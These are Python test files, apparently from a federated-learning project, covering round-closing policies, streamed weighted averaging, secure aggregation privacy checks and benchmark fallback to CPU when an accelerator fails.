                    (10_000, _ok(14, 4))]
    before = _counter("v6_round_closes_total", mode="quorum",
                      cause="quorum")
    pol = RoundPolicy(mode="quorum", quorum=3, deadline_s=30.0)
    got = list(iter_round(c, t, pol))
    assert [g["run_id"] for g in got] == [11, 12, 13]
    assert c.killed == [t]          # laggard run cancelled exactly once
    assert _counter("v6_round_closes_total", mode="quorum",
                    cause="quorum") == before + 1


def test_iter_round_deadline_close_yields_partial():
    c = _ScriptedClient()
    t = c.task.create(input_={}, organizations=[1, 2])["id"]
    c.scripts[t] = [(1, _ok(11, 1)), (10 ** 9, _ok(12, 2))]
    before = _counter("v6_round_closes_total", mode="quorum",
                      cause="deadline")
    pol = RoundPolicy(mode="quorum", quorum=2, deadline_s=0.3)
    got = list(iter_round(c, t, pol))
    assert [g["run_id"] for g in got] == [11]
    assert c.killed == [t]
    assert _counter("v6_round_closes_total", mode="quorum",
                    cause="deadline") == before + 1


def test_iter_round_quorum_reaches_barrier_without_kill():
    """Everyone arrives before quorum/deadline fire: no cancellation."""
    c = _ScriptedClient()
    t = c.task.create(input_={}, organizations=[1, 2])["id"]
    c.scripts[t] = [(1, _ok(11, 1)), (1, _ok(12, 2))]
    pol = RoundPolicy(mode="quorum", quorum=5, deadline_s=30.0)
    got = list(iter_round(c, t, pol))
    assert len(got) == 2
    assert c.killed == []


def test_iter_round_rejects_async_mode():
    with pytest.raises(ValueError):
        list(iter_round(_ScriptedClient(), 1, RoundPolicy(mode="async")))


# --- run_async_rounds ----------------------------------------------------

def _async_client(delays: dict):
    """Client whose org->task completes ``delays[org]`` polls after its
    dispatch (each org gets a fresh task per dispatch)."""

    class _C(_ScriptedClient):
        _run_ids = itertools.count(100)

        def __init__(self):
            super().__init__()
            self.task = _Task(self)

    c = _C()
    orig_create = c.task.create

    def create(input_=None, organizations=(), name="", delta_base=None,
               **kw):
        out = orig_create(input_=input_, organizations=organizations,
                          name=name, delta_base=delta_base, **kw)
        (org,) = organizations
        c.scripts[out["id"]] = [
            (delays.get(org, 1), _ok(next(_C._run_ids), org))
        ]
        return out

    c.task.create = create
    return c


def test_async_rounds_advance_past_straggler():
    # org 9 never completes; orgs 1 and 2 complete every dispatch
    c = _async_client({1: 1, 2: 1, 9: 10_000_000})
    pol = RoundPolicy(mode="async", advance_every_s=0.001, alpha=0.5,
                      staleness_cutoff=3)
    out = run_async_rounds(
        c, orgs=[1, 2, 9], rounds=3, policy=pol,
        make_input=lambda w: {"weights": w}, name="t",
    )
    assert out["rounds_advanced"] == 3
    assert len(out["history"]) == 3
    # each advance saw at least one update, never the straggler's
    for h in out["history"]:
        assert h["updates"] >= 1
        assert 9 not in h["orgs"]
    # the straggler's outstanding task was killed exactly once at
    # teardown (plus any other still-outstanding dispatches)
    straggler_tasks = [tid for tid, t in c.tasks.items()
                       if t["orgs"] == [9]]
    assert len(straggler_tasks) == 1     # never re-dispatched
    assert straggler_tasks[0] in c.killed
    assert c.killed.count(straggler_tasks[0]) == 1
    assert out["stats"]["updates"] == sum(h["updates"]
                                          for h in out["history"])
    assert out["stats"]["discarded"] == 0


def test_async_rounds_discards_past_cutoff():
    """An update older than staleness_cutoff global rounds is dropped
    and counted, never averaged in."""
    c = _async_client({1: 1, 5: 9})   # org 5's update lands 9 polls in
    before = _counter("v6_round_late_results_total",
                      disposition="discarded")
    pol = RoundPolicy(mode="async", advance_every_s=0.0001, alpha=0.5,
                      staleness_cutoff=0)  # any staleness>0 discards
    out = run_async_rounds(
        c, orgs=[1, 5], rounds=6, policy=pol,
        make_input=lambda w: {"weights": w}, name="t",
    )
    assert out["rounds_advanced"] == 6
    assert out["stats"]["discarded"] >= 1
    assert _counter("v6_round_late_results_total",
                    disposition="discarded") >= before + 1
    # the discarded org never contributed to an advance
    assert all(5 not in h["orgs"] for h in out["history"])


def test_async_rounds_never_double_counts_a_run():
    """poll_results returning the same run repeatedly must fold it in
    once: the engine excludes consumed run ids per outstanding task."""
    c = _async_client({1: 1, 2: 2})
    pol = RoundPolicy(mode="async", advance_every_s=0.0001)
    out = run_async_rounds(
        c, orgs=[1, 2], rounds=4, policy=pol,
        make_input=lambda w: {"weights": w}, name="t",
    )
    # every counted update corresponds to one distinct dispatched task
    # completing — no update delivered twice (scripted: one run/task)
    assert out["stats"]["updates"] <= out["stats"]["dispatched"]
    assert out["rounds_advanced"] == 4


def test_async_rounds_requires_orgs():
    with pytest.raises(ValueError):
        run_async_rounds(_ScriptedClient(), orgs=[], rounds=1,
                         policy=RoundPolicy(mode="async"),
                         make_input=lambda w: {})


def test_async_rounds_times_out_when_stalled():
    c = _async_client({7: 10_000_000})
    c.timeout = 0.2
    pol = RoundPolicy(mode="async", advance_every_s=0.01)
    with pytest.raises(TimeoutError):
        run_async_rounds(c, orgs=[7], rounds=1, policy=pol,
                         make_input=lambda w: {})
    # the stalled dispatch is still reaped on the error path
    assert len(c.killed) == 1


# --- FedAvgStream staleness math (satellite: bit-exact) ------------------

def _reference_stream(updates, weights):
    """Mirror FedAvgStream's streamed op sequence exactly: same jitted
    primitives (scale / acc+row*w / renorm), same f32 casts, same
    RENORM_EVERY cadence and weight-fold bookkeeping."""
    import jax

    scale, acc_add, renorm = _fedavg_stream_fns()
    acc, wsum, wdiv, spec = None, 0.0, 1.0, None
    for i, (u, w_raw) in enumerate(zip(updates, weights), start=1):
        flat, spec = flatten_params(u)
        w = float(w_raw) / wdiv
        wsum += w
        row = jax.device_put(flat)
        wa = np.float32(w)
        acc = scale(row, wa) if acc is None else acc_add(acc, row, wa)
        if i % FedAvgStream.RENORM_EVERY == 0 and wsum > 0:
            acc = renorm(acc, np.float32(wsum))
            wdiv *= wsum
            wsum = 1.0
    flat = np.asarray(acc).reshape(-1) / np.float32(wsum)
    return unflatten_params(flat, spec)


@pytest.mark.parametrize("alpha", [1.0, 0.5])
def test_fedavg_stream_staleness_weights_bit_exact(alpha):
    """300 staleness-weighted updates (staleness 0–3) cross the renorm
    boundary twice; the streamed result must be BIT-identical to the
    mirrored reference and within f32 rounding of the f64 ground truth.
    """
    rng = np.random.default_rng(42)
    n_updates = 300
    updates = [{"w0": rng.normal(size=(5, 3)).astype(np.float32),
                "b0": rng.normal(size=(3,)).astype(np.float32)}
               for _ in range(n_updates)]
    ns = rng.integers(1, 50, size=n_updates)
    staleness = rng.integers(0, 4, size=n_updates)   # 0..3 inclusive
    ws = [staleness_weight(int(n), int(s), alpha)
          for n, s in zip(ns, staleness)]

    stream = FedAvgStream()
    stream._stream = True      # force the streamed path on CPU
    for u, w in zip(updates, ws):
        stream.add(u, w)
    assert len(stream) == n_updates
    got = stream.finish()

    ref = _reference_stream(updates, ws)
    for k in ref:
        np.testing.assert_array_equal(
            np.asarray(got[k]), np.asarray(ref[k]),
            err_msg=f"leaf {k!r} diverged from the mirrored reference "
                    f"(alpha={alpha})")

    # and the weighted mean is right: f64 ground truth within f32 noise
    wsum = float(np.sum(ws))
    for k in ref:
        truth = sum(u[k].astype(np.float64) * w
                    for u, w in zip(updates, ws)) / wsum
        np.testing.assert_allclose(np.asarray(got[k]), truth,
                                   rtol=2e-5, atol=2e-6)


def test_fedavg_stream_renorm_matches_host_path():
    """Streamed (renorming) and host-batch paths agree to f32 noise —
    the renorm fold must not change what finish() means."""
    rng = np.random.default_rng(0)
    updates = [{"w": rng.normal(size=(16,)).astype(np.float32)}
               for _ in range(200)]
    ws = rng.uniform(0.25, 4.0, size=200)

    s_dev = FedAvgStream()
    s_dev._stream = True
    s_host = FedAvgStream()    # _stream False off-neuron → batch path
    s_host._stream = False
    for u, w in zip(updates, ws):
        s_dev.add(u, float(w))
        s_host.add(u, float(w))
    np.testing.assert_allclose(
        np.asarray(s_dev.finish()["w"]),
        np.asarray(s_host.finish()["w"]), rtol=2e-5, atol=2e-6)
