"""Secure aggregation (models/secure_agg.py): pooled parity, the
coordinator-view reconstruction proof, dropout recovery, and the
fixed-point codec. The protocol's privacy claim is that the
coordinator's complete view — every message it sends and receives plus
all state it holds — never suffices to recover an individual org's
update."""

import numpy as np
import pytest

from vantage6_trn.algorithm.mock_client import MockAlgorithmClient
from vantage6_trn.algorithm.table import Table

pytest.importorskip(
    "cryptography",
    reason="secure_agg key agreement (x25519) needs the cryptography package",
)
from vantage6_trn.models import secure_agg  # noqa: E402


def _world(n_orgs=4, rows=50, seed=55):
    rng = np.random.default_rng(seed)
    tables, cols = [], []
    for i in range(n_orgs):
        v = rng.normal(loc=i, size=rows)
        w = rng.normal(loc=-i, size=rows) * 100.0
        tables.append([Table({"a": v, "b": w})])
        cols.append((v, w))
    return tables, cols


class RecordingClient:
    """Wraps a client, capturing the coordinator's complete view:
    everything it sends (task inputs) and receives (results)."""

    def __init__(self, inner):
        self._inner = inner
        self.sent = []       # (name, input-or-inputs)
        self.received = []   # (task_id, results list)
        self.organization = inner.organization
        self.task = self

    def create(self, input_=None, organizations=(), name="", inputs=None,
               **kw):
        self.sent.append((name, inputs if inputs is not None else input_))
        return self._inner.task.create(
            input_=input_, organizations=organizations, name=name,
            inputs=inputs, **kw)

    def wait_for_results(self, task_id, **kw):
        out = self._inner.wait_for_results(task_id, **kw)
        self.received.append((task_id, out))
        return out

    def iter_results(self, task_id):
        # record the same view the batch path records: the streamed
        # items' result payloads, in arrival order
        out = []
        for item in self._inner.iter_results(task_id):
            out.append(item["result"])
            yield item
        self.received.append((task_id, out))


def test_secure_mean_matches_pooled_exactly():
    tables, cols = _world()
    client = MockAlgorithmClient(datasets=tables, module=secure_agg)
    out = secure_agg.secure_mean(client, columns=["a", "b"])
    va = np.concatenate([t[0] for t in cols])
    vb = np.concatenate([t[1] for t in cols])
    # fixed-point modular masking is exact: 2^-24 per-org rounding only
    np.testing.assert_allclose(out["mean"]["a"], va.mean(), atol=1e-6)
    np.testing.assert_allclose(out["mean"]["b"], vb.mean(), atol=1e-6)
    assert out["n"] == 200
    assert out["dropped"] == []


def test_coordinator_view_cannot_recover_individual_updates():
    """Reconstruct the coordinator's FULL view and show no individual
    update is derivable from it: the view holds only public keys and
    masked vectors; every mask needs a DH shared secret the coordinator
    does not have. (Round 1's flaw — coordinator-drawn seeds — would
    fail this test: the seeds would sit in `sent`.)"""
    tables, cols = _world(n_orgs=3)
    rec = RecordingClient(
        MockAlgorithmClient(datasets=tables, module=secure_agg))
    out = secure_agg.secure_mean(rec, columns=["a", "b"])

    # --- the coordinator's complete view ---
    keygen_results = rec.received[0][1]
    masked_results = rec.received[1][1]
    sent_payloads = rec.sent

    # 1. nothing it SENT contains seed/secret material: phase-1 input is
    #    just the session tag; phase-2 inputs carry only public keys
    for name, payload in sent_payloads:
        blob = repr(payload)
        assert "private" not in blob and "seed" not in blob, name
    # 2. nothing it RECEIVED is an unmasked update: for every org,
    #    the masked vector decodes to something astronomically far from
    #    the org's true sums (uniform over Z_2^64)
    true_sums = {
        i + 1: np.array([c[0].sum(), len(c[0]), c[1].sum(), len(c[1])])
        for i, c in enumerate(cols)
    }
    for r in masked_results:
        dec = secure_agg.decode_fixed(np.asarray(r["masked"], np.uint64))
        residual = np.abs(dec - true_sums[r["org_id"]])
        assert residual.min() > 1e6, (
            "a masked vector is close to the true update — mask failed"
        )
    # 3. public keys are the ONLY per-org phase-1 material
    assert all(set(r) == {"org_id", "public_key"} for r in keygen_results)
    # 4. and yet the aggregate is correct
    va = np.concatenate([c[0] for c in cols])
    np.testing.assert_allclose(out["mean"]["a"], va.mean(), atol=1e-6)


def test_masks_are_fresh_per_session():
    """Two sessions over identical data must produce different masked
    vectors (ephemeral keys), or transcripts could be differenced."""
    tables, _ = _world(n_orgs=3)
    m = []
    for _ in range(2):
        rec = RecordingClient(
            MockAlgorithmClient(datasets=tables, module=secure_agg))
        secure_agg.secure_mean(rec, columns=["a"])
        m.append(np.asarray(rec.received[1][1][0]["masked"], np.uint64))
    assert not np.array_equal(m[0], m[1])


def test_dropout_recovery_single_org():
    """One org fails mid-protocol: survivors reveal only their masks
    with the dropped org; the survivors' mean comes out exact."""
    tables, cols = _world(n_orgs=4)
    client = MockAlgorithmClient(datasets=tables, module=secure_agg)
    fail_org = 2
    out = secure_agg.secure_mean(client, columns=["a", "b"],
                                 _fail_org=fail_org)
    assert out["dropped"] == [fail_org]
    va = np.concatenate([c[0] for i, c in enumerate(cols)
                         if i + 1 != fail_org])
    np.testing.assert_allclose(out["mean"]["a"], va.mean(), atol=1e-6)
    assert out["n"] == 150


def test_dropout_recovery_preserves_survivor_privacy():
    """After the reveal, each survivor's (masked − correction) is still
    masked by its survivor↔survivor pairs — reveals only cover pairs
    with the dropped org."""
    tables, cols = _world(n_orgs=4)
    rec = RecordingClient(
        MockAlgorithmClient(datasets=tables, module=secure_agg))
    secure_agg.secure_mean(rec, columns=["a", "b"], _fail_org=2)
    masked = {r["org_id"]: np.asarray(r["masked"], np.uint64)
              for r in rec.received[1][1] if r}
    reveals = {r["org_id"]: np.asarray(r["correction"], np.uint64)
               for r in rec.received[2][1]}
    true_sums = {
        i + 1: np.array([c[0].sum(), len(c[0]), c[1].sum(), len(c[1])])
        for i, c in enumerate(cols)
    }
    for org, mv in masked.items():
        unmasked_attempt = secure_agg.decode_fixed(mv - reveals[org])
        assert np.abs(unmasked_attempt - true_sums[org]).min() > 1e6


def test_abort_when_single_survivor():
    """A 'sum' of one update is the update — the protocol must refuse."""
    tables, _ = _world(n_orgs=2)
    client = MockAlgorithmClient(datasets=tables, module=secure_agg)
    with pytest.raises(RuntimeError, match="fewer than 2"):
        secure_agg.secure_mean(client, columns=["a"], _fail_org=1)


def test_fixed_point_codec_roundtrip():
    rng = np.random.default_rng(0)
    u = rng.normal(size=64) * 1e4
    v = secure_agg.encode_fixed(u)
    np.testing.assert_allclose(secure_agg.decode_fixed(v), u, atol=2e-7)
    # negative values survive the two's-complement round trip
    assert secure_agg.decode_fixed(secure_agg.encode_fixed(
        np.array([-3.5])))[0] == -3.5


def test_ephemeral_keys_cleared_after_session():
    """Private key halves must not persist on disk after the session —
    a later disk read plus the public transcript would unmask past
    updates."""
    from vantage6_trn.algorithm import state

    tables, _ = _world(n_orgs=3)
    client = MockAlgorithmClient(datasets=tables, module=secure_agg)
    out = secure_agg.secure_aggregate(client, columns=["a"])
    for org in (1, 2, 3):
        name = secure_agg._state_name(out["session"], org)
        assert state.load_state(None, name) is None, (org, name)


def test_nan_input_fails_loudly_not_silently():
    rng = np.random.default_rng(3)
    v = rng.normal(size=20)
    v[4] = np.nan
    tables = [[Table({"a": v})], [Table({"a": rng.normal(size=20)})],
              [Table({"a": rng.normal(size=20)})]]
    client = MockAlgorithmClient(datasets=tables, module=secure_agg)
    out = secure_agg.secure_mean(client, columns=["a"])
    # the NaN org becomes a visible dropout, never a corrupted total
    assert out["dropped"] == [1]
    assert np.isfinite(out["mean"]["a"])


def test_per_org_inputs_in_mock():
    """Per-org task inputs dispatch each org its own payload."""
    from vantage6_trn.models import stats

    tables, _ = _world(n_orgs=3)
    client = MockAlgorithmClient(datasets=tables, module=stats)
    from vantage6_trn.common.serialization import make_task_input
    t = client.task.create(inputs={
        1: make_task_input("partial_stats", kwargs={"columns": ["a"]}),
        2: make_task_input("partial_stats", kwargs={"columns": ["b"]}),
    })
    res = client.wait_for_results(t["id"])
    assert res[0]["columns"] == ["a"] and res[1]["columns"] == ["b"]
