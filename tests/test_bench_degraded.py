"""bench.py resilience: the perf record must never have holes.

A dead NeuronRT exec unit (VERDICT BENCH_r05: ``NRT_EXEC_UNIT_
UNRECOVERABLE`` killed the bench before any measurement) must re-exec
the bench on the CPU backend with ``"degraded": true`` instead of
crashing — whether it dies at first dispatch (calibration) or
mid-round with the 10-node network already up (device phase).

These tests drive the classification and re-exec plumbing hermetically:
``_reexec_on_cpu`` is replaced with a sentinel-raising stub (the real
one ``execvpe``s and never returns) and retry backoff sleeps are
injected away.
"""

from __future__ import annotations

import pytest

import bench
import vantage6_trn.common.resilience as resilience


class _Reexec(BaseException):
    """Sentinel standing in for the process-replacing execvpe."""

    def __init__(self, reason):
        self.reason = reason


def _stub_reexec(monkeypatch):
    calls = []

    def fake(reason, cause=None):
        calls.append(reason)
        raise _Reexec(reason)

    monkeypatch.setattr(bench, "_reexec_on_cpu", fake)
    return calls


def _no_sleep_retries(monkeypatch):
    real = resilience.RetryPolicy
    monkeypatch.setattr(
        resilience, "RetryPolicy",
        lambda **kw: real(**{**kw, "sleep": lambda _s: None}),
    )


# --- classification -----------------------------------------------------

@pytest.mark.parametrize("marker", bench._UNRECOVERABLE_MARKERS)
def test_unrecoverable_markers_match(marker):
    assert bench._is_unrecoverable(RuntimeError(f"boom: {marker} (42)"))


def test_transient_errors_are_not_unrecoverable():
    assert not bench._is_unrecoverable(ValueError("connection reset"))
    assert not bench._is_unrecoverable(TimeoutError("slow compile"))


def test_marker_in_worker_log_text_classifies():
    # the device phase raises AssertionError carrying harvested run
    # logs; the classifier must see markers buried in that text
    e = AssertionError(
        "round 3 failed: None; RUN failed ...NRT_EXEC_UNIT_UNAVAILABLE...")
    assert bench._is_unrecoverable(e)


# --- calibration path ---------------------------------------------------

def test_calibrate_success_no_reexec(monkeypatch):
    calls = _stub_reexec(monkeypatch)
    monkeypatch.setattr(bench, "calibrate_environment",
                        lambda: {"dispatch_ms": 1.0})
    assert bench.calibrate_with_retry() == {"dispatch_ms": 1.0}
    assert calls == []


def test_calibrate_unrecoverable_takes_fast_path(monkeypatch):
    """An NRT marker skips the remaining retries — re-exec immediately."""
    calls = _stub_reexec(monkeypatch)
    attempts = []

    def dead():
        attempts.append(1)
        raise RuntimeError("NRT_EXEC_UNIT_UNRECOVERABLE: exec unit gone")

    monkeypatch.setattr(bench, "calibrate_environment", dead)
    with pytest.raises(_Reexec):
        bench.calibrate_with_retry()
    assert len(attempts) == 1  # no backoff burned on a dead device
    assert "NRT_EXEC_UNIT_UNRECOVERABLE" in calls[0]


def test_calibrate_transient_retries_then_reexecs(monkeypatch):
    """Generic failures get the full retry budget before the re-exec."""
    _no_sleep_retries(monkeypatch)
    calls = _stub_reexec(monkeypatch)
    attempts = []

    def flaky():
        attempts.append(1)
        raise ValueError("transient compiler hiccup")

    monkeypatch.setattr(bench, "calibrate_environment", flaky)
    with pytest.raises(_Reexec):
        bench.calibrate_with_retry()
    assert len(attempts) == 3  # max_attempts, all consumed
    assert "transient compiler hiccup" in calls[0]


def test_reexec_raises_if_already_degraded(monkeypatch):
    """No fallback loops: a failure ON the CPU backend is fatal."""
    monkeypatch.setenv("BENCH_DEGRADED", "NRT_UNINITIALIZED: first time")
    with pytest.raises(RuntimeError, match="even on the CPU fallback"):
        bench._reexec_on_cpu("still broken")


def test_reexec_pins_cpu_backend_and_reason(monkeypatch):
    monkeypatch.delenv("BENCH_DEGRADED", raising=False)
    seen = {}

    def fake_execvpe(exe, argv, env):
        seen.update(env)
        raise _Reexec("execvpe")

    monkeypatch.setattr(bench.os, "execvpe", fake_execvpe)
    with pytest.raises(_Reexec):
        bench._reexec_on_cpu("RuntimeError: NRT_EXEC_UNIT_UNRECOVERABLE")
    assert seen["JAX_PLATFORMS"] == "cpu"
    assert "NRT_EXEC_UNIT_UNRECOVERABLE" in seen["BENCH_DEGRADED"]


# --- device phase (network already up) ----------------------------------

class _FakeNet:
    """DemoNetwork stand-in: records stop() calls, fails in researcher()."""

    instances = []

    def __init__(self, *a, **k):
        self.stop_calls = 0
        self.exc = _FakeNet.next_exc
        _FakeNet.instances.append(self)

    def start(self):
        return self

    def researcher(self, _i=0):
        raise self.exc

    def stop(self):
        self.stop_calls += 1


def _run_main_with(monkeypatch, exc):
    import vantage6_trn.dev as dev

    _FakeNet.instances = []
    _FakeNet.next_exc = exc
    monkeypatch.setattr(dev, "DemoNetwork", _FakeNet)
    monkeypatch.setattr(bench, "make_datasets", lambda: [])
    monkeypatch.setattr(bench, "measure_reference_emulation", lambda: {
        "round_s": 1.0, "worker_s": 0.5,
        "worker_spread_s": {}, "poll_latency_s": 2.0,
    })
    monkeypatch.setattr(bench, "calibrate_with_retry", lambda: {})
    calls = _stub_reexec(monkeypatch)
    return calls


def test_device_phase_unrecoverable_tears_down_then_reexecs(monkeypatch):
    """Mid-round NRT death: stop the net BEFORE the process is replaced
    (execvpe never returns, so no finally would run), exactly once."""
    calls = _run_main_with(
        monkeypatch,
        RuntimeError("NRT_EXEC_UNIT_UNRECOVERABLE: exec unit gone"))
    with pytest.raises(_Reexec):
        bench.main()
    (net,) = _FakeNet.instances
    assert net.stop_calls == 1
    assert "NRT_EXEC_UNIT_UNRECOVERABLE" in calls[0]


def test_device_phase_ordinary_error_propagates(monkeypatch):
    """A non-NRT failure is a real bug: propagate, still stop the net,
    and never take the CPU re-exec (that would mask it as 'degraded')."""
    calls = _run_main_with(monkeypatch, ValueError("bad round result"))
    with pytest.raises(ValueError, match="bad round result"):
        bench.main()
    (net,) = _FakeNet.instances
    assert net.stop_calls == 1
    assert calls == []


# --- injected calibration fault (hermetic) -------------------------------

def test_injected_calibration_fault_takes_unrecoverable_path(monkeypatch):
    """BENCH_FAULT_CALIBRATION raises an NRT-marked error inside
    calibrate_environment → the unrecoverable fast path re-execs on the
    first attempt, carrying the marker in the reason."""
    calls = _stub_reexec(monkeypatch)
    monkeypatch.setenv("BENCH_FAULT_CALIBRATION", "1")
    monkeypatch.delenv("BENCH_DEGRADED", raising=False)
    with pytest.raises(_Reexec):
        bench.calibrate_with_retry()
    assert "NRT_EXEC_UNIT_UNRECOVERABLE" in calls[0]


def test_injected_fault_disarms_after_reexec(monkeypatch):
    """Once BENCH_DEGRADED is set (the re-exec'd process), the injected
    fault must NOT fire again — the CPU fallback run calibrates clean,
    like a real dead device the CPU backend sidesteps."""
    monkeypatch.setenv("BENCH_FAULT_CALIBRATION", "1")
    monkeypatch.setenv("BENCH_DEGRADED", "injected")
    out = bench.calibrate_environment()
    assert out["dispatch_ms"] >= 0.0


# --- bench --smoke (full subprocess, the CI perf lane) -------------------

_SMOKE_RUNS: dict = {}


def _run_bench(extra_env, metric=None):
    """One cached ``bench.py --smoke`` subprocess per distinct env:
    returns the LAST metric line (the headline record) by default, or a
    specific earlier ``{"metric": ...}`` line by name."""
    import json
    import os
    import subprocess
    import sys

    key = tuple(sorted(extra_env.items()))
    if key not in _SMOKE_RUNS:
        r = subprocess.run(
            [sys.executable, "bench.py", "--smoke"],
            capture_output=True, text=True, timeout=420,
            cwd=os.path.dirname(os.path.abspath(bench.__file__)),
            env={**os.environ, **extra_env},
        )
        assert r.returncode == 0, f"bench --smoke rc={r.returncode}:\n" \
                                  f"{r.stderr[-2000:]}"
        _SMOKE_RUNS[key] = [json.loads(ln) for ln in r.stdout.splitlines()
                            if ln.startswith('{"metric"')]
    lines = _SMOKE_RUNS[key]
    if metric is None:
        return lines[-1]
    (line,) = [j for j in lines if j["metric"] == metric]
    return line


def test_bench_smoke_completes_with_full_record():
    j = _run_bench({"BENCH_FAULT_CALIBRATION": ""})
    assert j["smoke"] is True and j["degraded"] is False
    d = j["detail"]
    assert d["nodes"] == 2
    # the fused secure-agg scenario published its phase decomposition
    phases = d["secure_agg_fused_phase_ms"]
    assert set(phases) == {"decrypt", "widen", "device_add", "renorm",
                           "drain"}
    assert d["secure_agg_combine_ms"] >= 0
    assert d["secure_agg_backend"] in ("jax", "bass", "nki")


def test_bench_smoke_publishes_bytes_per_round():
    """The bytes_per_round scenario rides the same smoke run (cached
    subprocess): dense vs lossless-delta vs int8 framings for MLP and
    LoRA, with the PR's acceptance ratios encoded here so a codec
    regression fails tier-1, not just the perf lane."""
    j = _run_bench({"BENCH_FAULT_CALIBRATION": ""},
                   metric="bytes_per_round")
    assert j["unit"] == "bytes" and j["smoke"] is True
    d = j["detail"]
    for scen in ("mlp", "lora"):
        for variant in ("dense", "delta", "quant_int8"):
            v = d[scen][variant]
            assert v["bytes_per_round"] > 0
            # directions decompose the total (±1 from per-key rounding)
            assert abs(v["bytes_per_round"] - v["down_bytes_per_round"]
                       - v["up_bytes_per_round"]) <= 1
    # lossless delta alone: ≥3× fewer LoRA bytes (frozen trunk XORs to
    # zeros); MLP only has to win, its drift touches every mantissa
    assert d["lora"]["delta"]["vs_dense_bytes"] >= 3.0
    assert d["mlp"]["delta"]["vs_dense_bytes"] > 1.0
    # the lossy opt-in declares its bound and stays inside it
    for scen in ("mlp", "lora"):
        q = d[scen]["quant_int8"]
        assert q["lossy"] is True
        assert q["observed_max_err"] <= q["declared_max_err"] * (1 + 1e-6)
        assert q["declared_max_err"] > 0


def test_bench_smoke_publishes_round_policy_wall_clock():
    """The round-policy scenario rides the same smoke run: the same
    4-node fit under an injected straggler (V6_FAULT_PLAN machinery),
    measured three ways. The tentpole's value proposition is encoded as
    assertions — sync pays the straggler in full, quorum closes without
    it, async keeps advancing global rounds while it sleeps."""
    j = _run_bench({"BENCH_FAULT_CALIBRATION": ""},
                   metric="round_policy_wall_clock_s")
    assert j["unit"] == "s" and j["smoke"] is True
    d = j["detail"]
    assert d["nodes"] == 4
    assert d["fault_plan"]  # the injected straggler is on the record
    delay = d["straggler_delay_s"]
    assert delay > 0
    sync, quorum, async_ = d["sync"], d["quorum"], d["async"]
    # sync pays the full straggler delay; quorum-3 closes without it
    assert sync["wall_clock_s"] >= delay
    assert quorum["wall_clock_s"] < sync["wall_clock_s"] - delay / 4
    # the quorum round really excluded the straggler's contribution
    assert quorum["history_n"] < sync["history_n"]
    # async advanced every requested global round while the straggler
    # slept, each round cheaper than the straggler-gated sync round
    assert async_["rounds_advanced"] == 3
    assert async_["round_wall_clock_s"] < sync["wall_clock_s"]
    assert async_["async_stats"]["buffer_dropped"] == 0


def test_bench_smoke_publishes_flash_attn():
    """The flash-attention scenario rides the same smoke run: both
    paths timed, bit-parity asserted inside the bench, and the
    dispatch-counter contract on the record — zero on fallback, ≥reps
    on silicon (the scenario hard-asserts whichever side applies)."""
    j = _run_bench({"BENCH_FAULT_CALIBRATION": ""}, metric="flash_attn")
    assert j["unit"] == "ms" and j["smoke"] is True
    d = j["detail"]
    assert d["backend"] in ("jax", "bass")
    assert d["ref_ms"] > 0 and d["flash_ms"] > 0
    assert d["lora_apply_ms"] > 0
    if d["backend"] == "jax":
        assert d["flash_dispatch_delta"] == 0
        assert d["lora_dispatch_delta"] == 0
    else:
        assert d["flash_dispatch_delta"] >= d["reps"]


def test_bench_smoke_publishes_inference_serving():
    """The serving scenario rides the same smoke run: a request storm
    over balanced batcher replicas under preemptible core leases, a
    registry-driven mid-storm weight hot-swap (zero dropped streams,
    hard-asserted inside the bench), and the block-decode dispatch
    contract — zero on fallback, ≥iterations on silicon. Also pins the
    layer-stream fix: with the cutover forced to 0 a plaintext smoke
    run must actually stream results (BENCH_r08 regression)."""
    j = _run_bench({"BENCH_FAULT_CALIBRATION": ""},
                   metric="inference_serving_tokens_per_s")
    assert j["unit"] == "tokens/s" and j["smoke"] is True
    d = j["detail"]
    assert d["backend"] in ("jax", "bass")
    assert d["tokens_per_s"] > 0
    assert d["ttft_p50_s"] > 0 and d["ttft_p99_s"] >= d["ttft_p50_s"]
    assert d["requests"] == 10 and d["rejected"] == 1
    assert d["completed_on_swapped_weights"] >= 1
    assert d["iterations"] > 0
    if d["backend"] == "jax":
        assert d["block_decode_dispatch_delta"] == 0
    else:
        assert d["block_decode_dispatch_delta"] >= d["iterations"]


def test_bench_smoke_publishes_compile_cache_warm_start():
    """The compile-cache scenario rides the same smoke run: round 1
    (fresh process) writes the persistent cache, round 2 (another
    fresh process) loads from it."""
    j = _run_bench({"BENCH_FAULT_CALIBRATION": ""},
                   metric="compile_cache_warm_start")
    assert j["unit"] == "s" and j["smoke"] is True
    d = j["detail"]
    assert d["cache_entries"] > 0
    assert d["round1_compile_s"] > 0 and d["round2_compile_s"] > 0


@pytest.mark.slow
def test_bench_smoke_survives_injected_nrt_fault():
    """Acceptance gate: an unrecoverable NRT fault at first dispatch
    still yields a complete BENCH json with "degraded": true, rc=0 —
    via the real execvpe re-exec (sys.argv preserved, so the re-exec'd
    run is still --smoke)."""
    j = _run_bench({"BENCH_FAULT_CALIBRATION": "1"})
    assert j["smoke"] is True and j["degraded"] is True
    assert "NRT_EXEC_UNIT_UNRECOVERABLE" in j["detail"]["degraded_reason"]
    assert "secure_agg_fused_phase_ms" in j["detail"]


def test_bench_smoke_publishes_pipelined_round_overlap():
    """The pipelined-rounds scenario rides the same smoke run: a
    deterministic scripted federation where speculative dispatch plus
    the streamed tail must collapse steady-state round wall-clock from
    ≈ parallel + tail to ≤ 1.15 × max(parallel, tail). This PR's
    acceptance bound lives here, in tier-1, not just the perf lane."""
    j = _run_bench({"BENCH_FAULT_CALIBRATION": ""},
                   metric="pipelined_round_overlap")
    assert j["unit"] == "s" and j["smoke"] is True
    d = j["detail"]
    pipe, base = d["quorum_pipelined"], d["quorum_baseline"]
    # the baseline really is the sum of its phases (no accidental
    # pipelining), the pipelined leg really hides the cheaper one
    assert base["steady_round_wall_s"] >= 0.9 * (
        base["parallel_s"] + base["tail_s"])
    assert d["wall_vs_max_bound"] <= 1.15
    assert d["pipelining_speedup"] > 1.2
    # every steady-state pipelined round committed its speculation and
    # measured real overlap — except the final round, which has no r+1
    # to dispatch and so legitimately reports zero
    assert pipe["committed"] == pipe["speculated"]
    *mid, last = pipe["overlap_s_per_round"]
    assert all(o > 0 for o in mid) and last == 0.0
    # injected late breach: exactly one abort, one kill, no stale folds
    b = d["breach"]
    assert b["aborted"] == 1 and b["kills"] == 1
    assert b["committed"] == b["speculated"] - 1
    assert b["bit_exact_vs_sync"] is True
    reg = d["registry_deltas"]
    assert reg["v6_run_stale_result_total"] == 0
    assert reg["v6_round_overlap_seconds_count"] >= pipe["committed"]
    assert reg["v6_round_overlap_seconds_sum"] > 0


def test_bench_smoke_publishes_round_recovery():
